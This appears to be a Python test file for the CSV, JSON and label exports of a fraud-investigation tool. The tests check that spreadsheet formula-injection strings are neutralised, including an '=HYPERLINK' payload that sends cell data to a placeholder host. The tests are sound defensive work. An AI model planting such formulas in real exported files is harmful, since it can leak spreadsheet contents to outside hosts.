"""What leaves: JSON with ids as they are, CSV that runs nowhere, labels and hints that training reads."""

import csv
import io
import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest
import yaml
from finder_runs import day, ring, run_from_truth, write_run
from hypothesis import given
from hypothesis import strategies as st

from graphs.errors import ConfigError
from graphs.events import UNLABELLED
from graphs.ingest import ingest
from graphs.investigation import exports, queries
from graphs.investigation.feedback import export_labels
from graphs.investigation.workspace import Workspace
from graphs.schema import DataSchema
from graphs.stores import cases
from graphs.stores.actors import Actor
from graphs.stores.errors import ForbiddenError
from graphs.stores.importing import import_run
from graphs.stores.lists import tag_benign
from graphs.stores.models import micros
from graphs.verbs import build_graph

ROOT = Path(__file__).parents[3]
ANA, LEAD, VIC = Actor("ana", "investigator"), Actor("lea", "lead"), Actor("vic", "viewer")
U1, U2, U3, D1 = ("user", "user1"), ("user", "user2"), ("user", "user3"), ("device", "d1")
LIVE = ['=HYPERLINK("http://x.invalid/?"&A1)', "-2+3", "\t=1+1", "+1+1", "@SUM(A1:A9)", "\r\n=1+1", "＝1+1", " =1"]


def judge(workspace, ring_id, **verdicts):
    cases.claim(workspace.store, ANA, ring_id)
    for name, verdict in verdicts.items():
        cases.give_verdict(workspace.store, ANA, ring_id, ("user", name), verdict, reason="x")


@pytest.mark.parametrize("text", LIVE)
def test_what_a_spreadsheet_would_run_gets_a_mark(text):
    assert exports.cell(text) == f"'{text}"


@pytest.mark.parametrize("value", ["u-4", "m=4", "x;=1+1", "007", -45.0, 0, True])
def test_what_is_harmless_stays_as_it_is(value):
    assert exports.cell(value) == value


@given(st.text())
def test_no_text_is_live_and_every_text_comes_back(text):
    shown = exports.to_csv([{"a": text, "b": -1.5}])
    assert shown
    (_, (cell, number)) = csv.reader(io.StringIO(shown, newline=""))
    assert cell.lstrip(" \u00a0\u3000")[:1] not in tuple("=+-@＝＋－＠\t\r\n") and number == "-1.5"
    assert (cell[1:] if cell.startswith("'") else cell) == text


def test_names_built_from_data_are_marked_too():
    assert exports.to_csv([{"=1+1": 1}]) == "'=1+1\r\n1\r\n"


def test_rings_of_live_ids_go_out_safe_as_csv_and_whole_as_json(tmp_path):
    workspace = Workspace.make(tmp_path / "made")
    users = [("user", text) for text in LIVE]
    run = write_run(tmp_path / "run", day(6), [ring("R-A", users, payments=[("=1", -45.0)])])
    import_run(workspace.store, LEAD, run)
    rows = list(csv.DictReader(io.StringIO(exports.ring_csv(workspace, ANA, "R-A"), newline="")))
    assert [row["entity_id"] for row in rows] == [f"'{text}" for text in LIVE]
    (paid,) = csv.DictReader(io.StringIO(exports.ring_csv(workspace, ANA, "R-A", "payments")))
    assert (paid["event_id"], paid["amount"]) == ("'=1", "-45.0")
    whole = json.loads(json.dumps(exports.ring_json(workspace, ANA, "R-A")))
    assert [one["entity"]["text"] for one in whole["members"]] == LIVE
    workspace.close()


@pytest.mark.parametrize("table", exports.RING_TABLES)
def test_each_table_of_a_ring_has_one_width(workspace, table):
    judge(workspace, "R-A", user1="fraud")
    cases.add_note(workspace.store, ANA, "R-A", "=1+1")
    rows = list(csv.reader(io.StringIO(exports.ring_csv(workspace, ANA, "R-A", table), newline="")))
    assert len({len(row) for row in rows}) == 1 and len(rows) > 1


def test_exports_are_for_those_who_may_and_are_audited(workspace):
    with pytest.raises(ForbiddenError):
        exports.ring_json(workspace, VIC, "R-A")
    with pytest.raises(ConfigError, match="table: got 'membres'; did you mean members"):
        exports.ring_csv(workspace, ANA, "R-A", "membres")
    exports.queue_csv(workspace, ANA)
    assert queries.audit_trail(workspace, LEAD, action="export").rows[0].detail == {"format": "csv", "rows": 2}


def test_verdicts_become_labels_known_from_when_they_were_given(workspace, tmp_path):
    judge(workspace, "R-A", user1="mule", user2="unsure")
    judge(workspace, "R-B", user3="legitimate")
    made = export_labels(workspace, LEAD, tmp_path / "labels")
    rows = {
        row["entity_id"]: row for row in pq.read_table(tmp_path / "labels" / "entities" / "user.parquet").to_pylist()
    }
    assert {key: row["label"] for key, row in rows.items()} == {"user1": 1, "user2": None, "user3": 0}
    with workspace.store.read() as connection:
        assert rows["user1"]["known_time"] == cases.verdicts_of(connection, entity=U1)[0].decided_at
    paid = {
        row["event_id"]: row for row in pq.read_table(tmp_path / "labels" / "events" / "payment.parquet").to_pylist()
    }
    assert {key: (row["label"], row["source"]) for key, row in paid.items()} == {
        "p1": (1, "verdict"), "p3": (1, "books"), "p4": (0, "verdict"),
    }  # fmt: skip
    assert made.rows["entities/user"] == 3


def test_hints_say_who_belongs_together_and_who_does_not(workspace, tmp_path):
    judge(workspace, "R-A", user1="fraud", user2="mule")
    judge(workspace, "R-B", user3="victim")
    cases.give_verdict(workspace.store, ANA, "R-A", D1, "legitimate", reason="x")
    tag_benign(workspace.store, ANA, ("device", "d9"), reason="kiosk", expires_at=day(0).replace(year=2100))
    export_labels(workspace, LEAD, tmp_path / "labels")
    rows = pq.read_table(tmp_path / "labels" / "hints.parquet").to_pylist()
    assert [(row["hint"], row["left_id"], row["right_id"]) for row in rows] == [
        ("must_link", "user1", "user2"),
        ("cannot_link", "user1", "d1"),
        ("never_link", "d9", None),
    ]


def test_a_verdict_comes_back_as_a_label_of_the_next_training_run(tmp_path):
    world = ROOT / "data" / "sample" / "world"
    mapping = yaml.safe_load((ROOT / "configs" / "data" / "world.yaml").read_text())
    mapping["root"] = str(world)
    (tmp_path / "world.yaml").write_text(yaml.safe_dump(mapping))
    build_graph(data=mapping, output=str(tmp_path / "built"))
    workspace = Workspace.make(tmp_path / "made", graph=tmp_path / "built" / "graph")
    import_run(workspace.store, LEAD, run_from_truth(world, tmp_path / "run"))
    best = queries.ring_queue(workspace, LEAD).rows[0]
    user = next(one.entity.key for one in queries.ring_sheet(workspace, LEAD, best.ring_id).members)
    given = cases.give_verdict(workspace.store, LEAD, best.ring_id, ("user", user), "fraud", reason="x")
    export_labels(workspace, LEAD, tmp_path / "labels", data=tmp_path / "world.yaml")
    workspace.close()
    back = yaml.safe_load((tmp_path / "labels" / "data" / "verdicts.yaml").read_text())
    log = ingest(DataSchema.from_config(back)).log
    labels = log.entity_labels["user"]
    (judged,) = (labels.label != UNLABELLED).nonzero()[0]
    assert log.entity_ids["user"][int(judged)].as_py() == user
    assert (labels.label[judged], labels.known_time[judged]) == (1, micros(given.decided_at))
